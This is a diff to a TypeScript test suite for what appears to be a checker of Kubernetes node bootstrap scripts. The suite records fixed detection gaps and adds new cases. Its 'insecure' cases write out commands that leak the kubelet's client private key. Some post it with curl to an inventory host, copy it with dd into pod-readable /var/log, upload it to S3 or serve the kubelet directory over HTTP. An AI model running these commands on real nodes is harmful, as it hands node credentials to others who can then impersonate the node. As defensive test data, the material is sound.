@@ -47,7 +47,7 @@ const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
 const INVENTORY = "https://inventory.example.com/nodes";
 
 const insecure: NodeCase[] = [
-    // MISS: (insecure accepted) `caddy file-server` serves its working directory when --root is not given (caddyserver.com
+    // Was a MISS (fixed in round 46): (insecure accepted) `caddy file-server` serves its working directory when --root is not given (caddyserver.com
     // docs "Command Line", caddy file-server: "--root specifies the root file path. Default is the current working
     // directory"; caddy-file-server(8); `caddy file-server` = "serve the current directory") on --listen's address, here
     // `:8080`, every address (Go net.Listen: "If the host in the address parameter is empty ... Listen listens on all
@@ -64,9 +64,8 @@ const insecure: NodeCase[] = [
             "nohup caddy file-server --listen :8080 --browse >/dev/null 2>&1 &",
         ]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) the same server started by systemd-run with -p WorkingDirectory=/var/lib/kubelet (systemd-run(1)
+    // Was a MISS (fixed in round 46): (insecure accepted) the same server started by systemd-run with -p WorkingDirectory=/var/lib/kubelet (systemd-run(1)
     // -p/--property; systemd.exec(5) WorkingDirectory=): wrappedDirectory reads the directory (round 45), but caddy has
     // no reader and `:8080` is not ALL_ADDRESSES, so nothing judges it. Same fix as above.
     dev(
@@ -75,7 +74,6 @@ const insecure: NodeCase[] = [
             "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/caddy file-server --listen :8080",
         ]),
         /./,
-        true,
     ),
     dev(
         "systemd-run -p WorkingDirectory=/var/lib/kubelet python3 -m http.server 8080 (a read server in the launcher's directory)",
@@ -83,7 +81,7 @@ const insecure: NodeCase[] = [
             "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/python3 -m http.server 8080",
         ]),
     ),
-    // MISS: (insecure accepted) curl takes a short option's value glued to its letter (curl(1) "OPTIONS": "-d@file" as -d @file;
+    // Was a MISS (fixed in round 46): (insecure accepted) curl takes a short option's value glued to its letter (curl(1) "OPTIONS": "-d@file" as -d @file;
     // curl docs data.md "If you start the data with the letter @, the rest should be a filename"), so `-d@KEY` posts
     // the kubelet's client key to another host: whoever reads the inventory acts as the node. keepsNodeSecrets checks
     // only the word before the value (`-d` then `@KEY`). Fix: read glued short values (-d@..., -T..., -F...) too.
@@ -91,18 +89,16 @@ const insecure: NodeCase[] = [
         "curl -sS -d@/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -d)",
         script("dev-curl-d-glued-key-nodes", [`curl -sS -d@${KEY} ${INVENTORY}`]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) curl -F "name=<file" sends the file's content as the field's value (curl docs form.d: "To just get
+    // Was a MISS (fixed in round 46): (insecure accepted) curl -F "name=<file" sends the file's content as the field's value (curl docs form.d: "To just get
     // the content part from a file, prefix the file name with the symbol <"). keepsNodeSecrets looks for `@` only.
     // Fix: treat `<` in a -F/--form value as a file read, like `@`.
     dev(
         'curl -sS -F "cert=</var/lib/kubelet/pki/kubelet-client-current.pem" (a form field read from the key)',
         script("dev-curl-form-lt-key-nodes", [`curl -sS -F "cert=<${KEY}" ${INVENTORY}`]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) --data-ascii is an alias of --data (curl docs data-ascii.d: "This is just an alias for --data",
+    // Was a MISS (fixed in round 46): (insecure accepted) --data-ascii is an alias of --data (curl docs data-ascii.d: "This is just an alias for --data",
     // "Example: --data-ascii @file $URL"), so it posts the key; keepsNodeSecrets' list names -d, --data,
     // --data-binary/-raw/-urlencode, --json, -F/--form only. Fix: add --data-ascii (and read curl's option table, not a
     // subset).
@@ -110,17 +106,15 @@ const insecure: NodeCase[] = [
         "curl -sS --data-ascii @/var/lib/kubelet/pki/kubelet-client-current.pem (--data's alias)",
         script("dev-curl-data-ascii-key-nodes", [`curl -sS --data-ascii @${KEY} ${INVENTORY}`]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) `-T${KEY}` glued (curl(1): short option values may follow the letter) uploads the key; same gap
+    // Was a MISS (fixed in round 46): (insecure accepted) `-T${KEY}` glued (curl(1): short option values may follow the letter) uploads the key; same gap
     // as -d@. Fix: as above.
     dev(
         "curl -sS -T/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -T)",
         script("dev-curl-t-glued-key-nodes", [`curl -sS -T${KEY} https://inventory.example.com/`]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) dd(1) copies `if=FILE` to `of=FILE`; here the kubelet's client key lands in /var/log, which the pack
+    // Was a MISS (fixed in round 46): (insecure accepted) dd(1) copies `if=FILE` to `of=FILE`; here the kubelet's client key lands in /var/log, which the pack
     // lets pods mount read-only (log shippers; rootReads.ts podReadable), so a log-shipper pod reads the node's key and
     // acts as the node. dd is in NODE_SECRET_KEEPERS, and secretFlow reads dd's of= only when dd copies standard input
     // (ddOutput with fromStdin). Fix: judge dd's if= as its source and of= as its destination whatever its stdin.
@@ -128,25 +122,27 @@ const insecure: NodeCase[] = [
         "dd if=/var/lib/kubelet/pki/kubelet-client-current.pem of=/var/log/kubelet-client.pem (a copy into /var/log)",
         script("dev-dd-if-of-key-nodes", [`dd if=${KEY} of=/var/log/kubelet-client.pem status=none`]),
         /./,
-        true,
     ),
     dev(
         "aws s3 cp the kubelet's key to s3://node-backups/$(hostname)/ --region eu-west-1 (a trailing option after the destination)",
         script("dev-aws-s3-region-key-nodes", [
             `aws s3 cp ${KEY} "s3://node-backups/$(hostname)/kubelet-client.pem" --region eu-west-1`,
         ]),
+        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
     ),
     dev(
         "aws s3 cp the kubelet's key to S3 with --sse aws:kms --sse-kms-key-id alias/node-backups",
         script("dev-aws-s3-sse-key-nodes", [
             `aws s3 cp ${KEY} s3://node-backups/ --sse aws:kms --sse-kms-key-id alias/node-backups`,
         ]),
+        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
     ),
     dev(
         "aws ssm put-parameter --value file:///var/lib/kubelet/pki/kubelet-client-current.pem --type SecureString --overwrite",
         script("dev-ssm-put-parameter-key-nodes", [
             `aws ssm put-parameter --name "/eks/nodes/$(hostname)/kubelet-client" --value file://${KEY} --type SecureString --overwrite`,
         ]),
+        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
     ),
     dev(
         "rsync -a /var/lib/kubelet/pki/ backup@10.0.0.5:/srv/pki/ --exclude '*.tmp' (an option after the remote destination)",
@@ -160,6 +156,48 @@ const insecure: NodeCase[] = [
             "mkdir -p /var/log/node-pki",
             `ln -L ${KEY} /var/log/node-pki/kubelet-client.pem`,
         ]),
+    ),
+    // DECIDED (round 46): refused, and rightly, for what it writes: the drop-in comes from S3 into /etc/kubernetes, the
+    // kubelet's configuration (nodeadm merges /etc/kubernetes/kubelet/config.json.d: EKS AMI docs, "nodeadm
+    // kubelet"), so whoever writes the bucket sets the kubelet's authentication and authorization: the pack cannot
+    // read it (NODE_CONFIG_PATHS "content the pack cannot read"), with or without --endpoint-url. Was a MISS (fixed
+    // in round 46) for its reason: keepsNodeSecrets took the endpoint URL as aws's destination and copy() as a node
+    // path ("a directory pods read"); awsTransfer now reads `aws s3 cp|mv|sync SRC DEST` by position (AWS CLI
+    // reference, "aws s3 cp": every option but the listed flags takes a value), so only the unreadable write is left
+    // (userData.test.ts "reads aws s3 cp's destination by position").
+    dev(
+        "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/ --endpoint-url https://bucket.vpce-...amazonaws.com",
+        script("dev-aws-s3-vpce-dropin-ok-nodes", [
+            "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/40-validators.conf " +
+                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com",
+        ]),
+        /writes \/etc\/kubernetes\/kubelet\/config\.json\.d\/40-validators\.conf with content the pack cannot read/,
+    ),
+    // Neighbours of round 46's fixes (refused).
+    // A trailing option whose value is no path (--storage-class): the destination is still the S3 URI.
+    dev(
+        "aws s3 cp the kubelet's key s3://node-backups/k.pem --storage-class STANDARD_IA (an option value last)",
+        script("dev-aws-s3-storage-class-key-nodes", [
+            `aws s3 cp ${KEY} s3://node-backups/k.pem --storage-class STANDARD_IA`,
+        ]),
+        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
+    ),
+    dev(
+        "aws s3api put-object --body the kubelet's key (the object's body is the file)",
+        script("dev-s3api-body-key-nodes", [`aws s3api put-object --bucket node-backups --key k.pem --body ${KEY}`]),
+        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
+    ),
+    // caddy file-server with --root the kubelet's directory on the default :80.
+    dev(
+        "caddy file-server --root /var/lib/kubelet (default listener :80, every address)",
+        script("dev-caddy-root-kubelet-nodes", ["nohup caddy file-server --root /var/lib/kubelet >/dev/null 2>&1 &"]),
+        /serves \/var\/lib\/kubelet /,
+    ),
+    // A variable holding the key itself (openssl pkey prints the private key: openssl-pkey(1)), echoed to the log.
+    dev(
+        'key=$(openssl pkey -in KEY); echo "$key" (the private key printed to cloud-init\'s log)',
+        script("dev-openssl-pkey-echo-key-nodes", [`key=$(openssl pkey -in ${KEY})`, 'echo "$key"']),
+        /printed|cloud-init/,
     ),
 ];
 
@@ -188,7 +226,7 @@ const secure: NodeCase[] = [
             'logger -t kubelet-cert "expires $expiry"',
         ]),
     ),
-    // MISS: (secure refused) `openssl x509 -enddate -noout` prints only "notAfter=<date>" (openssl-x509(1): -noout "Prevents output
+    // Was a MISS (fixed in round 46): (secure refused) `openssl x509 -enddate -noout` prints only "notAfter=<date>" (openssl-x509(1): -noout "Prevents output
     // of the encoded version of the certificate", -enddate "Prints out the expiry date"), a public date; cut keeps the
     // date. The pack marks the variable as holding the kubelet's key (secretPrintedBy counts openssl as a printer
     // whatever its options, though secretFlow's `quiet` already knows x509/-noout print no key) and refuses echoing it
@@ -200,31 +238,12 @@ const secure: NodeCase[] = [
             `expiry=$(openssl x509 -enddate -noout -in ${KEY} | cut -d= -f2)`,
             'echo "kubelet client certificate expires $expiry"',
         ]),
-        /./,
-        true,
     ),
     dev(
         "systemd-run --on-calendar=daily openssl x509 -checkend 604800 -noout -in the kubelet's client certificate (a timer)",
         script("dev-systemd-run-checkend-ok-nodes", [
             `systemd-run --unit=kubelet-cert-expiry --on-calendar=daily /usr/bin/openssl x509 -checkend 604800 -noout -in ${KEY}`,
         ]),
-    ),
-    // MISS: (secure refused) an S3 download through an S3 interface endpoint (AWS PrivateLink for Amazon S3, "Accessing buckets
-    // ... from interface endpoints": `aws s3 --endpoint-url https://bucket.vpce-1a2b3c4d-5e6f.s3.us-east-1.vpce.amazonaws.com
-    // ...`), the usual form for private-subnet nodes, writing a kubelet drop-in (nodeadm's kubelet --config-dir
-    // /etc/kubernetes/kubelet/config.json.d). keepsNodeSecrets takes aws's last non-option word as the destination (the
-    // endpoint URL: "remote") and copy() takes it as a node path (`/https:/bucket.vpce-...`, "a directory pods read"):
-    // refused twice. (The same last-word rule lets `aws s3 cp KEY s3://... --region X` decide by luck.) Fix: parse
-    // `aws s3 cp|mv|sync SRC DEST` positionally, skipping every option's value (the AWS CLI's options all take one
-    // value except its documented flags).
-    dev(
-        "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/ --endpoint-url https://bucket.vpce-...amazonaws.com",
-        script("dev-aws-s3-vpce-dropin-ok-nodes", [
-            "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/40-validators.conf " +
-                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com",
-        ]),
-        /./,
-        true,
     ),
     dev(
         "an iptables user chain admitting only the VPC to the kubelet's port 10250, saved to /etc/sysconfig/iptables",
@@ -268,6 +287,20 @@ const secure: NodeCase[] = [
     dev(
         "timeout 300 bash -c 'until [ -s KEY ]; do sleep 5; done' & (waiting for the kubelet's client certificate)",
         script("dev-wait-for-key-ok-nodes", [`timeout 300 bash -c 'until [ -s ${KEY} ]; do sleep 5; done' &`]),
+    ),
+    // Neighbours of round 46's fixes (clean).
+    dev(
+        "aws s3 cp s3://node-images/pause.tar /var/lib/containerd/pause.tar --endpoint-url https://bucket.vpce-... (a download)",
+        script("dev-aws-s3-vpce-download-ok-nodes", [
+            "aws s3 cp s3://node-images/pause.tar /var/lib/containerd/pause.tar " +
+                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com --region eu-west-1",
+        ]),
+    ),
+    dev(
+        "caddy file-server --root /var/lib/kubelet --listen 127.0.0.1:8080 (loopback only)",
+        script("dev-caddy-kubelet-lo-ok-nodes", [
+            "nohup caddy file-server --root /var/lib/kubelet --listen 127.0.0.1:8080 >/dev/null 2>&1 &",
+        ]),
     ),
 ];
 
